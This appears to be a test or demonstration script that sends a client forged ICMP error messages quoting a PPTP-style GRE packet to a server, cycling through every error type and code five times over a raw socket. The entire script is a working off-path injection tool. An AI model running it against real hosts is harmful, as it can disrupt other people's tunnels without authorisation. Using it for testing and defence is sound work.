#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""icmp-errors.py CLIENT SERVER: says to CLIENT, with each of ICMP's errors (RFC 792, RFC 1812), that a GRE packet to SERVER failed.

Anybody can write such packets who knows the two addresses.
"""
import socket
import struct
import sys

client, server = sys.argv[1:]
ERRORS = [(3, code) for code in range(16) if code != 4] + [(11, 0), (11, 1), (12, 0), (12, 1), (12, 2), (4, 0)]


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def quoted():
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 48, 1, 0, 63, socket.IPPROTO_GRE, 0, socket.inet_aton(client), socket.inet_aton(server))
    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    return head + struct.pack(">HHHH", 0x3001, 0x880B, 16, 1)


sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
for kind, code in ERRORS * 5:
    message = struct.pack(">BBHI", kind, code, 0, 0) + quoted()
    message = message[:2] + struct.pack(">H", checksum(message)) + message[4:]
    sock.sendto(message, (client, 0))
print(len(ERRORS) * 5)
